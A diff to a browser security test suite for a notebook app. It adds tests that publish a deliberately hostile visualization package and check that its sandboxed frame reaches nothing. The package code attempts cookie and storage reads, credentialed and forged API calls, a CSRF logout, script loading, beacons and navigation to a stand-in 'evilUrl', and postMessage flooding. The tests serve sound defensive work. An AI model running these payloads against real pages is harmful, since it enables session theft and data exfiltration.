@@ -1,6 +1,6 @@
 /**
- * What leaves the frame of an output: in the app, and on a page of another origin that has no
- * policy of its own.
+ * What leaves the frame of an output or a package: in the app, and on a page of another origin that
+ * has no policy of its own.
  */
 import { createSocket } from 'node:dgram';
 import { createServer, type Server } from 'node:http';
@@ -11,6 +11,7 @@ import type { Page } from 'playwright-core';
 import { afterAll, describe, expect, it } from 'vitest';
 import { launchChromium } from '../support/chromium.ts';
 import { ADMIN_PASSWORD, startEmbedded } from '../support/embedded.ts';
+import { startRegistry } from '../support/npm-registry.ts';
 import { openPage, signIn } from '../support/page.ts';
 import { untilEnd } from '../support/until-end.ts';
 
@@ -52,7 +53,10 @@ const portal = createServer((request, response) => {
   );
 });
 const portalUrl = await listening(portal);
-const embedded = untilEnd(await startEmbedded({ allowOrigins: [portalUrl] }));
+const registry = untilEnd(await startRegistry());
+const embedded = untilEnd(
+  await startEmbedded({ allowOrigins: [portalUrl], heliumRegistry: registry.url }),
+);
 const client = untilEnd(createClient({ server: embedded.server.url }));
 await client.session.login('admin', ADMIN_PASSWORD);
 const token = (await client.tokens.create({ description: 'portal' })).token!;
@@ -154,4 +158,120 @@ it('an output in the app does not use WebRTC', async () => {
   await page.evaluate(rtc());
   await expect.poll(() => packets).toBeGreaterThan(0);
   await close();
+});
+
+describe('a package that attacks', () => {
+  const NAME = 'a-hostile-view';
+  let page: Page;
+  let pageClosed: () => Promise<void>;
+  const frame = () => page.frameLocator('iframe.package-frame');
+
+  /** Shows a table with the package in the app of a user, or on the portal's page. */
+  async function open(place: string, body: string): Promise<void> {
+    const [prepare, render] = [body, "document.body.dataset['drawn'] = 'yes'"];
+    const version = `1.0.${Math.floor(Math.random() * 1e9)}`;
+    registry.publish(NAME, version, {
+      more: { keywords: ['zeppelin-visualization'], dependencies: { 'zeppelin-vis': '*' } },
+      files: {
+        'package/index.js':
+          "import Visualization from 'zeppelin-vis';" +
+          "import Passthrough from 'zeppelin-tabledata/passthrough';" +
+          'export default class extends Visualization {' +
+          'getTransformation() { return new Passthrough({}); }' +
+          `render() { ${render}; if (this.done) return; this.done = true; ${prepare} } }`,
+      },
+    });
+    await client.packages.enable(NAME, `${NAME}@${version}`);
+    const note = await client.open(await client.notes.create({ path: `packages/${version}` }));
+    const paragraph = note.paragraphs[0]!;
+    paragraph.edit("%js\nconsole.log('%table a\\tb\\n1\\t2')");
+    expect((await paragraph.run()).status).toBe('FINISHED');
+    await paragraph.configure({ results: { 0: { graph: { mode: NAME } } } });
+    const address =
+      place === 'the app'
+        ? `${embedded.server.url}/#/notebook/${note.id}`
+        : `${portalUrl}/${note.id}/${paragraph.id}`;
+    note.close();
+    const watched = await openPage(browser);
+    [page, pageClosed] = [watched.page, watched.close];
+    await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
+    hits = [];
+    packets = 0;
+    await page.goto(address);
+  }
+
+  it.each(['the app', 'the portal'])('in %s reaches nothing [S97]', async (place) => {
+    const { url } = embedded.server;
+    const api = JSON.stringify(`${url}/api/notebook`);
+    const soon = (start: string): string =>
+      `() => new Promise((reached, shut) => { setTimeout(() => shut('late'), 1000); ${start} })`;
+    const attacks: Record<string, string> = {
+      page: '() => parent.document.title',
+      top: '() => top.document.title',
+      storage: '() => localStorage.length',
+      'storage of the page': '() => parent.localStorage.length',
+      databases:
+        "() => new Promise((done, no) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = no })",
+      cookies: '() => document.cookie',
+      call: `() => fetch(${api}, { credentials: 'include' })`,
+      'change by a blind call': `() => fetch(${api}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"forged"}' })`,
+      'old call': soon(
+        `const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = reached; x.onerror = shut; x.open('GET', ${api}); x.send()`,
+      ),
+      socket: soon(
+        `const s = new WebSocket(${JSON.stringify(`${url.replace('http', 'ws')}/ws`)}); s.onopen = reached; s.onerror = shut`,
+      ),
+      picture: soon(
+        `const i = new Image(); i.onload = reached; i.onerror = shut; i.src = ${JSON.stringify(`${url}/icon.svg`)}`,
+      ),
+      script: soon(
+        `const e = document.createElement('script'); e.onload = reached; e.onerror = shut; e.src = ${JSON.stringify(`${evilUrl}/x.js`)}; document.head.append(e)`,
+      ),
+      worker: soon(
+        `const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + ${JSON.stringify(api)} + ').then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => data ? reached() : shut()`,
+      ),
+      window: `() => { if (!window.open(${JSON.stringify(`${evilUrl}/window`)})) throw 'shut' }`,
+      beacon: `() => { navigator.sendBeacon(${JSON.stringify(`${evilUrl}/beacon`)}); throw 'seen at the other host' }`,
+    };
+    await open(
+      place,
+      `const attacks = {${Object.entries(attacks)
+        .map(([name, code]) => `${JSON.stringify(name)}: ${code}`)
+        .join(', ')}};
+      const send = parent.postMessage.bind(parent);
+      const port = { type: 'port' };
+      for (const target of [parent, top]) for (const type of ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'])
+        target.postMessage({ type, config: { stolen: 1 }, url: '${evilUrl}/link', href: '${evilUrl}/link', height: 1e9, message: 'forged' }, '*');
+      ${rtc()}
+      const form = document.createElement('form');
+      form.method = 'post'; form.action = '${url}/api/login/logout'; form.target = '_top';
+      document.body.append(form); form.submit();
+      for (const where of [top, parent]) try { where.location = '${evilUrl}/top' } catch {}
+      Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
+        try { await attack(); return name } catch { return '' }
+      })).then((reached) => { document.body.dataset.reached = reached.filter(Boolean).join(', ') || 'nothing' });`,
+    );
+    const reached = () => frame().locator('body').getAttribute('data-reached');
+    const before = page.url();
+    await expect.poll(reached).toBe('nothing');
+    await wait(ARRIVAL_MS);
+    expect({ hits, packets, url: page.url() }).toEqual({ hits: [], packets: 0, url: before });
+    expect((await client.notes.list()).map(({ path }) => path)).not.toContain('forged');
+    expect(await page.getByRole('alertdialog').count()).toBe(0);
+    expect((await page.request.get(`${url}/api/notebook`)).status()).toBe(200);
+    await pageClosed();
+  });
+
+  it.each([
+    ['leads its frame away', `location = '${evilUrl}/self'`],
+    ['sends messages without end', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
+  ])('and %s is stopped [S97]', async (_, body) => {
+    for (const place of ['the app', 'the portal']) {
+      await open(place, body);
+      await page.getByText('Try again').first().waitFor();
+      expect(await page.locator('iframe.package-frame').count()).toBe(0);
+      expect(hits).toEqual([]);
+      await pageClosed();
+    }
+  });
 });
